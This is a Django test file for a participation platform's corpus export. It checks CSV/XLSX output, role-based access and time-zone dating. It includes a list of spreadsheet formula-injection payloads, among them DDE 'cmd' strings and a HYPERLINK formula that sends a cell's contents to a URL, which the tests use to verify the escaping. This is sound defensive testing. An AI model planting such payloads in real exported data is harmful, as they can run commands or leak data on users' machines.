"""The corpus export: every channel of a process, in the format the engine reads."""

import io

import pytest
from django.urls import reverse

from palabre.core.models import Channel
from palabre.organizations.roles import Role
from palabre_analysis import read
from palabre_analysis.synthesis import Synthesizer
from tests.factories import UserFactory, make_contribution, make_member

pytestmark = pytest.mark.django_db


@pytest.fixture
def corpus_process(published_a, org_a):
    author = UserFactory(participant_type="association")
    nord = org_a.neighbourhoods.get(name="Nord")
    for channel in Channel.values:
        make_contribution(
            published_a,
            title=f"Idée {channel}",
            body=f"Des bancs au parc ({channel}) jean@x.fr",
            channel=channel,
            author=author,
            neighbourhood=nord,
        )
    idea = make_contribution(published_a, body="Plus de pistes cyclables")
    make_contribution(published_a, kind="comment", body="Oui", stance="for", parent=idea)
    return published_a


def export(client, org, process, fmt=""):
    url = reverse("backoffice:corpus_export", kwargs={"org": org.slug, "slug": process.slug})
    return client.get(url + (f"?format={fmt}" if fmt else ""))


def test_analyst_exports_every_channel_and_the_engine_reads_it(
    client, org_a, corpus_process, tmp_path
):
    client.force_login(make_member(org_a, Role.ANALYST))
    response = export(client, org_a, corpus_process)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode("utf-8")
    assert "jean" not in content.split("\n")[0]  # header only has column names
    path = tmp_path / "corpus.csv"
    path.write_text(content, encoding="utf-8")
    corpus = read(path, segment_columns=["channel", "neighbourhood", "stance"])
    assert corpus.format == "generic" and len(corpus) == len(Channel.values) + 2
    assert {c.segments.get("channel") for c in corpus.contributions} == set(Channel.values)
    result = Synthesizer(n_topics=2, segments=("channel",)).fit(corpus).result_
    assert set(result["segments"]["channel"]) >= set(Channel.values)
    assert "jean@x.fr" not in str(result)


def test_xlsx_export(client, org_a, corpus_process):
    from openpyxl import load_workbook

    client.force_login(make_member(org_a, Role.AGENT))
    response = export(client, org_a, corpus_process, "xlsx")
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[0][:4] == ("id", "kind", "title", "text") and len(rows) == len(Channel.values) + 3


def test_only_analysis_roles_of_the_organisation_export(
    client, org_a, org_b, corpus_process, agent_b, citizen
):
    client.force_login(citizen)
    assert export(client, org_a, corpus_process).status_code == 403
    client.force_login(make_member(org_a, Role.MEDIATOR))
    assert export(client, org_a, corpus_process).status_code == 403
    client.force_login(agent_b)
    assert export(client, org_a, corpus_process).status_code == 403
    assert export(client, org_b, corpus_process).status_code == 404


DANGEROUS = [
    '=HYPERLINK("https://exemple.org/?"&A1;"Cliquez")',
    "+33 rue du Port",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def injected(published_a):
    return [make_contribution(published_a, title=text, body=text) for text in DANGEROUS]


def test_csv_cells_never_start_a_formula(client, org_a, published_a, injected):
    import csv

    client.force_login(make_member(org_a, Role.ANALYST))
    content = b"".join(export(client, org_a, published_a).streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(content.lstrip("\ufeff"), newline="")))
    assert [r["text"] for r in rows] == ["'" + text for text in DANGEROUS]
    assert [r["title"] for r in rows] == ["'" + text for text in DANGEROUS]


def test_xlsx_cells_keep_the_exact_text_and_are_never_formulas(
    client, org_a, published_a, injected
):
    from openpyxl import load_workbook

    client.force_login(make_member(org_a, Role.ANALYST))
    response = export(client, org_a, published_a, "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    texts = [row[header.index("text")] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return as a line feed: the only change
    assert [cell.value for cell in texts] == [t.replace("\r", "\n") for t in DANGEROUS]
    assert {cell.data_type for cell in texts} == {"s"}


def test_contributions_are_dated_in_the_site_time_zone(client, org_a, published_a):
    import csv
    import datetime as dt

    from openpyxl import load_workbook

    late = dt.datetime(2026, 3, 1, 23, 30, tzinfo=dt.UTC)  # 00:30 on 2 March in Paris
    make_contribution(published_a, body="Tard le soir", created_at=late)
    client.force_login(make_member(org_a, Role.ANALYST))
    content = b"".join(export(client, org_a, published_a).streaming_content).decode("utf-8")
    assert next(csv.DictReader(io.StringIO(content.lstrip("\ufeff"))))["date"] == "2026-03-02"
    sheet = load_workbook(io.BytesIO(export(client, org_a, published_a, "xlsx").content)).active
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(2, header.index("date") + 1).value == "2026-03-02"
